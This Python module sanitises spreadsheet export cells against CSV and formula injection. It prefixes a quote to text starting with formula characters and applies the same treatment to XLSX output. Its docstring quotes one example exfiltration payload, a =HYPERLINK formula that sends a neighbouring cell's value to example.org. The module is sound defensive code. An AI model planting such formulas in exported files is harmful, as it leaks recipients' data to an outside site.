"""Cells of the CSV files we hand out, made safe to open in a spreadsheet.

Excel, WPS and LibreOffice run a cell that starts with = + - or @ as a formula, and skip a
leading tab, carriage return or NUL before one: an address such as
=HYPERLINK("http://example.org/?"&A1,"详情") would send the row's neighbours to another site
when clicked. Following OWASP (CSV Injection) and ASVS 1.2.10, such a cell gets a single quote
in front, which the spreadsheet takes as "this is text" and does not show. Every CSV the
platform writes for people goes through safe_row(); numbers we compute ourselves (counts,
rates, coordinates) are not text and stay numbers, negative ones included.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row):
    """A row for csv.writer (a sequence) or csv.DictWriter (a dict), every text cell safe."""
    if isinstance(row, dict):
        return {key: safe_cell(value) for key, value in row.items()}
    return [safe_cell(value) for value in row]


def xlsx_bytes(rows, title: str = "Sheet1") -> bytes:
    """Rows (the first the header) as an Excel workbook, text cells made safe as for CSV:
    openpyxl would otherwise store a cell starting with = as a formula."""
    import io

    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    for row in rows:
        sheet.append(safe_row(list(row)))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
